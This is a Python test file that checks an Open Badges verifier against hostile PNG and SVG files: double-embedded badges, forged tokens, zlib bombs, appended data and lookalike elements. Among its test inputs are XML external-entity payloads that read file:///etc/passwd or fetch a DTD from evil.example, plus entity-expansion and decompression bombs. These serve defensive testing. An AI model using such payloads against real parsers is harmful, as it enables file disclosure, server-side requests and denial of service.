"""Attacks on the file around the badge: two badges in one, bombs, entities, what hides behind the picture."""

import json
import zlib
from collections.abc import Callable
from functools import cache
from typing import Any

import pytest

from besace.openbadges.bake import bake
from besace.openbadges.seams import KeyKind
from besace.openbadges.verify import Report, Verdict
from tests.attacks.doors import ADDRESS, SVG, accepted, as_png, as_svg, refused
from tests.openbadges import factories, tokens
from tests.openbadges.pictures import IDAT, IEND, SIGNATURE, chunk, header, itxt, png, text, ztxt
from tests.openbadges.world import Issuer

OB3, OB2 = "https://purl.imsglobal.org/ob/v3p0", "http://openbadges.org"
Pair = Callable[[str, str], bytes]


@pytest.fixture
def issuer() -> Issuer:
    issuer = Issuer()
    tokens.publish_all(issuer)
    return issuer


def through_file(issuer: Issuer, data: bytes) -> Report:
    return issuer.check(data)


def through_address(issuer: Issuer, data: bytes) -> Report:
    issuer.web.serve(ADDRESS, data)
    return issuer.check(ADDRESS)


each_way_in = pytest.mark.parametrize("check", [through_file, through_address], ids=["file", "address"])


# two badges in one file

PAIRS: dict[str, Pair] = {
    "two chunks": lambda one, other: png(
        itxt("openbadgecredential", one), itxt("openbadgecredential", other)
    ),
    "iTXt and tEXt": lambda one, other: png(
        itxt("openbadgecredential", one), text("openbadgecredential", other)
    ),
    "tEXt and iTXt": lambda one, other: png(
        text("openbadgecredential", one), itxt("openbadgecredential", other)
    ),
    "iTXt and zTXt": lambda one, other: png(ztxt("openbadges", one), itxt("openbadgecredential", other)),
    "two keywords": lambda one, other: png(itxt("openbadges", one), itxt("openbadgecredential", other)),
    "before and after the picture": lambda one, other: b"".join(
        [
            SIGNATURE,
            header(),
            itxt("openbadgecredential", one),
            IDAT,
            itxt("openbadgecredential", other),
            IEND,
        ]
    ),
    "two elements": lambda one, other: drawing(OB3, "credential", one, other),
    "one element in another": lambda one, other: SVG.format(
        namespace=OB3,
        inside=f"<o:credential><![CDATA[{one}]]><o:credential><![CDATA[{other}]]></o:credential></o:credential>",
    ).encode(),
    "two namespaces": lambda one, other: SVG.format(
        namespace=OB3,
        inside=f'<o:credential><![CDATA[{one}]]></o:credential><x:assertion xmlns:x="{OB2}"><![CDATA[{other}]]></x:assertion>',
    ).encode(),
}


def drawing(namespace: str, element: str, *badges: str) -> bytes:
    inside = "".join(f"<o:{element}><![CDATA[{badge}]]></o:{element}>" for badge in badges)
    return SVG.format(namespace=namespace, inside=inside).encode()


def credentials(issuer: Issuer) -> tuple[str, str]:
    """Two genuine badges of one organisation, for two people."""
    other = issuer.award(id=f"{factories.HOST}/c/other", name="Un autre badge")
    return json.dumps(issuer.award()), json.dumps(other)


@each_way_in
@pytest.mark.parametrize("pair", PAIRS.values(), ids=list(PAIRS))
def test_two_genuine_badges_in_one_file_are_refused(issuer: Issuer, check: Any, pair: Pair) -> None:
    """One program shows the first, another proves the second."""
    one, other = credentials(issuer)
    for data in (pair(one, other), pair(other, one)):
        report = check(issuer, data)
        assert report.verdict is Verdict.REFUTED
        assert not report.is_badge


@each_way_in
@pytest.mark.parametrize(
    "changed",
    [
        {"badge": f"{factories.HOST}/a/another/v2"},
        {"issuedOn": "2026-03-13T09:30:00Z"},
        {"expires": "2030-01-01T00:00:00Z"},
        {"recipient": {"type": "email", "hashed": False, "identity": factories.ADDRESS}},
    ],
    ids=lambda changed: "+".join(changed),
)
def test_a_2_0_badge_that_is_not_the_twin_of_the_3_0_one_is_refused(
    issuer: Issuer, check: Any, changed: dict[str, Any]
) -> None:
    hosted = {**factories.assertion().to_json(), **changed}
    issuer.web.serve(factories.ASSERTION_URL, hosted)
    for image in (png(), SVG.format(namespace="urn:x", inside="").encode()):
        baked = bake(image, credential=json.dumps(issuer.award()), assertion=json.dumps(hosted))
        refused(check(issuer, baked), "ambiguous")


@each_way_in
def test_badge_that_does_not_name_its_twin_is_refused(issuer: Issuer, check: Any) -> None:
    lone = json.dumps(issuer.award(achievement=factories.achievement(related=())))
    baked = bake(png(), credential=lone, assertion=json.dumps(factories.assertion().to_json()))
    refused(check(issuer, baked), "ambiguous")


@each_way_in
def test_twins_of_which_one_was_changed_are_refused(issuer: Issuer, check: Any) -> None:
    signed = {**issuer.award(), "name": "Autre chose"}
    baked = bake(png(), credential=json.dumps(signed), assertion=json.dumps(factories.assertion().to_json()))
    refused(check(issuer, baked), "signature")


@each_way_in
def test_genuine_twins_are_accepted(issuer: Issuer, check: Any) -> None:
    baked = bake(
        png(), credential=json.dumps(issuer.award()), assertion=json.dumps(factories.assertion().to_json())
    )
    accepted(check(issuer, baked))


@each_way_in
def test_token_and_document_of_two_badges_are_refused(issuer: Issuer, check: Any) -> None:
    document = tokens.badge()
    token = tokens.forge({**document, **tokens.claims(document)}, tokens.signer_of(KeyKind.P256))
    one, _ = credentials(issuer)
    for data in (PAIRS["two chunks"](one, token), PAIRS["two keywords"](token, one)):
        assert check(issuer, data).verdict is Verdict.REFUTED


# bombs


@cache
def packed(layers: int) -> bytes:
    """100 MB of zeros, packed once or twice."""
    return zlib.compress(packed(layers - 1) if layers > 1 else b"0" * 100_000_000, 9)


@each_way_in
@pytest.mark.parametrize("make", [itxt, ztxt], ids=["iTXt", "zTXt"])
@pytest.mark.parametrize("layers", [1, 2])
def test_zlib_bomb_is_refused(issuer: Issuer, check: Any, make: Any, layers: int) -> None:
    bomb = packed(layers)
    names = b"openbadges\0\1\0\0\0" if make is itxt else b"openbadges\0\0"
    data = png(chunk(b"iTXt" if make is itxt else b"zTXt", names + bomb))
    report = check(issuer, data)
    assert report.verdict is Verdict.REFUTED
    assert not report.is_badge


@each_way_in
@pytest.mark.parametrize(
    "entities",
    [
        '<!DOCTYPE svg [<!ENTITY a "0000000000"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>',
        '<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd" []>',
    ],
)
@pytest.mark.parametrize(
    "before", [b"", b"\xef\xbb\xbf", b"\xef\xbb\xbf\xef\xbb\xbf", b"<!-- x -->", b"<?x y?>"]
)
def test_drawing_that_declares_entities_is_refused(
    issuer: Issuer, check: Any, entities: str, before: bytes
) -> None:
    badge, _ = credentials(issuer)
    data = before + entities.encode() + as_svg(badge)
    report = check(issuer, data)
    assert not report.is_badge
    assert not [address for address in issuer.web.asked if "evil" in address]


@each_way_in
def test_entity_that_nobody_declares_is_refused(issuer: Issuer, check: Any) -> None:
    badge, _ = credentials(issuer)
    data = b'<!DOCTYPE svg PUBLIC "a" "https://evil.example/x.dtd">' + as_svg(badge).replace(
        b"Savoirs", b"Savoirs&x;"
    )
    refused(check(issuer, data), "svg-malformed" if check is through_file else "no-badge-at-address")


@each_way_in
def test_drawing_without_end_is_refused(issuer: Issuer, check: Any) -> None:
    for inside in ("<g>" * 100_000, "<g>" * 5_000 + "</g>" * 5_000, "<g/>" * 60_000):
        assert not check(issuer, SVG.format(namespace="urn:x", inside=inside).encode()).is_badge


# what hides


@each_way_in
@pytest.mark.parametrize(
    "behind",
    [b"PK\x03\x04", b"\x89PNG\r\n\x1a\n", b"{}", b"<svg/>", IEND],
    ids=["archive", "picture", "JSON", "drawing", "end"],
)
def test_file_behind_the_picture_is_refused(issuer: Issuer, check: Any, behind: bytes) -> None:
    badge, _ = credentials(issuer)
    assert not check(issuer, as_png(badge) + behind).is_badge


@each_way_in
def test_picture_damaged_on_purpose_is_refused(issuer: Issuer, check: Any) -> None:
    """Readers that skip what is broken could find another badge behind it."""
    badge, _ = credentials(issuer)
    whole = as_png(badge)
    for broken in (
        whole[:-1],
        whole[:40] + whole[44:],
        whole.replace(b"IHDR", b"IHDr"),
        whole.replace(b"iTXt", b"ITXt"),
    ):
        assert not check(issuer, broken).is_badge


@each_way_in
@pytest.mark.parametrize(
    "hidden",
    [
        "<!-- <o:credential>{}</o:credential> -->",
        "<x:credential xmlns:x='https://evil.example'>{}</x:credential>",
        "<o:Credential>{}</o:Credential>",
        "<text>{}</text>",
    ],
)
def test_badge_in_what_only_looks_like_its_element_is_not_found(
    issuer: Issuer, check: Any, hidden: str
) -> None:
    badge, other = credentials(issuer)
    shown = f"<o:credential><![CDATA[{badge}]]></o:credential>{hidden.format(f'<![CDATA[{other}]]>')}"
    report = check(issuer, SVG.format(namespace=OB3, inside=shown).encode())
    assert report.document == json.loads(badge)
    accepted(report)


@each_way_in
def test_web_page_with_a_badge_in_it_is_no_badge(issuer: Issuer, check: Any) -> None:
    badge, _ = credentials(issuer)
    page = b"<!DOCTYPE html><html><body>" + as_svg(badge) + b"</body></html>"
    assert not check(issuer, page).is_badge


@each_way_in
def test_address_in_a_picture_that_leads_back_to_it_is_not_followed_for_ever(
    issuer: Issuer, check: Any
) -> None:
    picture = png(text("openbadges", ADDRESS))
    issuer.web.serve(ADDRESS, picture)
    refused(check(issuer, picture), "no-badge-at-address")
    assert issuer.web.asked == [ADDRESS]
